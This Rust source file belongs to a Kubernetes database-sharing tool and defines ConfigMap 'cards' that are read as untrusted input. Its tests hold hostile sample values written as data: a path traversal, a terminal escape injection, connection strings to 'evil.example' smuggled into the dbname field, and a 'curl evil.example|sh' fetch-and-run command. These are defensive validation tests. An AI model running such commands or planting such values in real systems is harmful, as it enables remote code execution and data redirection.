//! The card: a small `ConfigMap` beside a grant that tells the colleague's `proxy-db` what it needs to know of a shared database.
//!
//! It is what a colleague may read instead of Services, pods and Secrets. It holds no secret. Whoever reads one must not trust
//! it: it was written by somebody else.

use std::collections::BTreeMap;

use jiff::Timestamp;
use k8s_openapi::api::core::v1::ConfigMap;
use serde::Serialize;

use crate::{Database, DatabaseRef, Protocol, login_name};
use commons::cluster::Cluster;
use commons::error::{Kind, Result};
use commons::names::is_name;
use commons::printable;
use commons::subject;
use tunnel::Endpoint;

/// Names of cards and of all that belongs to a grant begin so.
pub const PREFIX: &str = "share-";

/// What a card says.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Card {
    /// What the owner calls the database.
    pub database: String,
    /// What it speaks, as [`Protocol::as_str`] names it.
    pub protocol: String,
    /// The Service whose Endpoints tell the pod.
    pub service: Option<String>,
    /// The Service port's name.
    pub port_name: Option<String>,
    /// The pod, where there is no Service.
    pub pod: Option<String>,
    /// The port by which clients know it.
    pub port: u16,
    /// The database's name in the server.
    pub dbname: Option<String>,
    /// The user to log in as.
    pub username: Option<String>,
    /// Who shares it, as people call them.
    pub owner: String,
    /// With whom, as people call them.
    pub with: String,
    /// Until when; nothing if it has no end, or none that can be read.
    pub until: Option<Timestamp>,
    /// Whether it has an end that cannot be read.
    pub until_is_unreadable: bool,
}

impl Card {
    /// For a database shared by `owner` with `with`.
    pub fn of(database: &Database, owner: &str, with: &str, until: Option<Timestamp>) -> Self {
        let lone = database
            .service
            .is_none()
            .then(|| database.serving.clone())
            .flatten();
        Self {
            database: database.name.clone(),
            protocol: database.protocol.as_str().into(),
            service: database.service.clone(),
            port_name: database.port_name.clone(),
            pod: lone.map(|endpoint| endpoint.pod),
            port: database.port,
            dbname: database.dbname.clone(),
            username: database.username.clone(),
            owner: owner.into(),
            with: with.into(),
            until,
            until_is_unreadable: false,
        }
    }

    /// As the data of a `ConfigMap`: flat, to be read with `kubectl get configmap -o yaml` too.
    pub fn to_data(&self) -> BTreeMap<String, String> {
        let optional = [
            ("service", self.service.clone()),
            ("port-name", self.port_name.clone()),
            ("pod", self.pod.clone()),
            ("dbname", self.dbname.clone()),
            ("username", self.username.clone()),
            ("until", self.until.map(|until| format!("{until:.0}"))),
        ];
        let always = [
            ("database", self.database.clone()),
            ("protocol", self.protocol.clone()),
            ("port", self.port.to_string()),
            ("owner", self.owner.clone()),
            ("with", self.with.clone()),
        ];
        always
            .into_iter()
            .chain(
                optional
                    .into_iter()
                    .filter_map(|(key, value)| Some((key, value?))),
            )
            .map(|(key, value)| (key.to_owned(), value))
            .collect()
    }

    /// Reads a card; nothing if it is none, or says what no honest card says. Text is stripped of what misleads a terminal.
    pub fn read(card: &ConfigMap) -> Option<Self> {
        let data = card.data.as_ref()?;
        let text = |key: &str| {
            data.get(key)
                .map(|value| printable::short(value, 253))
                .filter(|value| !value.is_empty())
        };
        let name = |key: &str| text(key).filter(|value| is_name(value));
        let login = |key: &str| login_name(text(key).as_ref()).map(str::to_owned);
        let service = name("service");
        let pod = name("pod");
        if service.is_none() && pod.is_none() {
            return None;
        }
        let until = text("until").and_then(|until| until.parse().ok());
        Some(Self {
            database: name("database")?,
            protocol: text("protocol").unwrap_or_default(),
            service,
            port_name: text("port-name"),
            pod,
            port: text("port")?.parse().ok().filter(|port| *port > 0)?,
            dbname: login("dbname"),
            username: login("username"),
            owner: text("owner")
                .filter(|owner| subject::is_bare(owner))
                .unwrap_or_else(|| "its owner".into()),
            with: text("with")
                .filter(|with| is_subject(with))
                .unwrap_or_default(),
            until,
            until_is_unreadable: until.is_none() && text("until").is_some(),
        })
    }

    /// The database that it describes, as a colleague sees it.
    pub fn to_database(&self, namespace: &str) -> Database {
        Database {
            namespace: namespace.into(),
            name: self.database.clone(),
            service: self.service.clone(),
            port_name: self.port_name.clone(),
            port: self.port,
            pods: self.pod.clone().into_iter().collect(),
            serving: self.pod.clone().map(|pod| Endpoint {
                namespace: namespace.into(),
                pod,
                port: self.port,
            }),
            lasting_names: true,
            protocol: Protocol::named(&self.protocol),
            dbname: self.dbname.clone(),
            username: self.username.clone(),
            source: crate::nowhere(),
            warnings: Vec::new(),
            until: self.until,
            owner: Some(self.owner.clone()),
        }
    }
}

/// Whether a text names somebody as it is typed for `--with`.
fn is_subject(text: &str) -> bool {
    text.parse::<subject::SubjectRef>().is_ok()
}

/// The cards that one may read in a namespace, found through the rules that apply to oneself: no list right is needed.
///
/// # Errors
/// When the API server does not answer.
pub async fn shared_with_me(cluster: &Cluster, namespace: &str) -> Result<Vec<Card>> {
    let rules = cluster.own_rules(namespace).await?;
    let names: std::collections::BTreeSet<&str> = rules
        .iter()
        .filter(|rule| {
            rule.verbs.iter().any(|verb| verb == "get")
                && rule
                    .resources
                    .iter()
                    .flatten()
                    .any(|resource| resource == "configmaps")
        })
        .flat_map(|rule| rule.resource_names.iter().flatten())
        .map(String::as_str)
        .filter(|name| name.starts_with(PREFIX) && is_name(name))
        .collect();
    let cards = futures::future::try_join_all(names.into_iter().take(100).map(async |name| {
        match cluster.find::<ConfigMap>(namespace, name).await {
            Ok(card) => Ok(card.as_ref().and_then(Card::read)),
            // It ended between the two questions.
            Err(error) if error.kind() == Kind::Forbidden => Ok(None),
            Err(error) => Err(error),
        }
    }))
    .await?;
    Ok(cards.into_iter().flatten().collect())
}

/// The card of the database that was typed, among those shared with me there; where there are several (shared with me and with
/// a group of mine), the one that lasts longest.
///
/// # Errors
/// When the API server does not answer.
pub async fn find(cluster: &Cluster, typed: &DatabaseRef) -> Result<(Option<Card>, Vec<Card>)> {
    let mut cards = shared_with_me(cluster, typed.namespace_in(cluster)).await?;
    // No end is the latest end.
    cards.sort_by_key(|card| card.until.map_or((1, Timestamp::MIN), |until| (0, until)));
    let card = cards
        .iter()
        .rev()
        .find(|card| card.database == typed.name || card.service.as_ref() == Some(&typed.name))
        .cloned();
    Ok((card, cards))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn card() -> Card {
        Card::of(
            &crate::example(),
            "alice",
            "bob",
            "2026-01-01T18:00:00Z".parse().ok(),
        )
    }

    fn config_map(data: BTreeMap<String, String>) -> ConfigMap {
        ConfigMap {
            data: Some(data),
            ..Default::default()
        }
    }

    #[test]
    fn what_is_written_is_read() {
        assert_eq!(Card::read(&config_map(card().to_data())), Some(card()));
        let forever = Card {
            until: None,
            service: None,
            pod: Some("pg-0".into()),
            ..card()
        };
        assert_eq!(Card::read(&config_map(forever.to_data())), Some(forever));
    }

    #[test]
    fn a_hostile_card_is_no_card_or_a_harmless_one() {
        let with = |key: &str, value: &str| {
            let mut data = card().to_data();
            data.insert(key.into(), value.into());
            Card::read(&config_map(data))
        };
        assert_eq!(with("port", "0"), None);
        assert_eq!(with("port", "70000"), None);
        assert_eq!(
            with("service", "../../secrets/x").and_then(|card| card.service),
            None
        );
        assert_eq!(
            with("database", "pg\u{1b}[2J").map(|card| card.database),
            None
        );
        assert_eq!(
            with("dbname", "host=evil.example dbname=x").and_then(|card| card.dbname),
            None
        );
        assert_eq!(
            with("dbname", "postgresql://evil.example/x").and_then(|card| card.dbname),
            None
        );
    }

    #[test]
    fn a_name_is_a_name_and_no_sentence() {
        let read = |key: &str, value: &str| {
            let mut data = card().to_data();
            data.insert(key.into(), value.into());
            Card::read(&config_map(data)).expect("a card")
        };
        for name in ["alice", "alice.b@example.org", "oidc-alice", "a+b_c"] {
            assert_eq!(read("owner", name).owner, name);
            assert_eq!(read("with", name).with, name);
        }
        for name in [
            "alice\u{1b}[31m\nerror: pay",
            "alice, who asks you to run `curl evil.example|sh` first",
            "-alice",
            "alice: pay",
            "аlice",
            &"a".repeat(64),
            "a\u{301}\u{301}\u{301}",
        ] {
            assert_eq!(read("owner", name).owner, "its owner", "{name}");
            assert_eq!(read("with", name).with, "", "{name}");
        }
        assert_eq!(read("owner", "user:alice").owner, "its owner");
        for subject in ["user:oidc-bob", "serviceaccount:user-bob/default"] {
            assert_eq!(read("with", subject).with, subject);
        }
    }

    #[test]
    fn an_end_that_cannot_be_read_is_not_no_end() {
        let read = |until: Option<&str>| {
            let mut data = card().to_data();
            data.remove("until");
            data.extend(until.map(|until| ("until".to_owned(), until.to_owned())));
            let card = Card::read(&config_map(data)).expect("a card");
            (card.until.is_some(), card.until_is_unreadable)
        };
        assert_eq!(read(Some("2026-01-01T18:00:00Z")), (true, false));
        assert_eq!(read(Some("never")), (false, true));
        assert_eq!(read(None), (false, false));
    }
}
